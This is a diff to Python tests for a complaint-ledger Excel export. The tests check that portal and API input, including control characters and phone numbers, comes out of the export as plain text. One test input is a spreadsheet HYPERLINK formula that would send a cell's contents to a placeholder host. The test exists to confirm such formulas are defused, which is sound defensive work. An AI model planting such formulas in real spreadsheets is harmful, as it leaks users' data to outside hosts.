@@ -17,6 +17,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from tousu.cases.models import Case
 from tousu.reports.ledger import EXPORT_COLUMNS
+from tousu.reports.tests import exporting
 
 HEADERS = [c.zh for c in EXPORT_COLUMNS]
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"点此查看")'
@@ -55,7 +56,7 @@ def _portal_submit(**fields: Any) -> str:
 
 def test_a_portal_formula_reaches_the_ledger_as_text(world, desk, cases):
     number = _portal_submit(content=FORMULA, subject_name="=1+2")
-    book = _book(desk("supervisor").get("ledger/export.xlsx"))
+    book = _book(exporting.ledger(desk("supervisor").client))
     row = _row_of(book["台帐"], number)
     assert row["内容摘要"].data_type == "s" and row["内容摘要"].value == FORMULA
     assert row["被投诉对象"].data_type == "s" and row["被投诉对象"].value == "=1+2"
@@ -76,7 +77,7 @@ def test_a_phone_number_with_a_plus_stays_as_typed_and_dates_stay_dates(world, d
     )
     assert r.status_code == 201, r.content
     number = r.json()["number"]
-    row = _row_of(_book(desk("supervisor").get("ledger/export.xlsx"))["台帐"], number)
+    row = _row_of(_book(exporting.ledger(desk("supervisor").client))["台帐"], number)
     assert row["被投诉对象"].value == "+86 138 0000 1111"
     assert row["被投诉对象"].data_type == "s"
     assert row["内容摘要"].value == "+86 138 0000 1111 来电，@收费处 -重复收费"
@@ -85,7 +86,7 @@ def test_a_phone_number_with_a_plus_stays_as_typed_and_dates_stay_dates(world, d
 
 def test_a_control_character_from_the_portal_does_not_break_the_ledger_export(world, desk, cases):
     number = _portal_submit(content=CONTROLS, subject_name="bell\x07 \x1b[0m")
-    book = _book(desk("supervisor").get("ledger/export.xlsx"))
+    book = _book(exporting.ledger(desk("supervisor").client))
     row = _row_of(book["台帐"], number)
     # Shown as U+FFFD where XML cannot hold the character; everything else as typed.
     assert row["内容摘要"].value == "ctrl \ufffd[31m \ufffd"
@@ -104,7 +105,7 @@ def test_a_control_character_from_the_api_does_not_break_the_ledger_export(world
     assert r.status_code == 201, r.content
     number = r.json()["number"]
     # The registering clerk sees the complainant's name (need-to-know)
-    row = _row_of(_book(desk("clerk").get("ledger/export.xlsx"))["台帐"], number)
+    row = _row_of(_book(exporting.ledger(desk("clerk").client))["台帐"], number)
     assert row["内容摘要"].value == "ctrl \ufffd[31m \ufffd"
     assert row["投诉人"].value == "王\ufffd建国"
     assert row["被投诉对象"].value == "\ufffd收费处\ufffd"
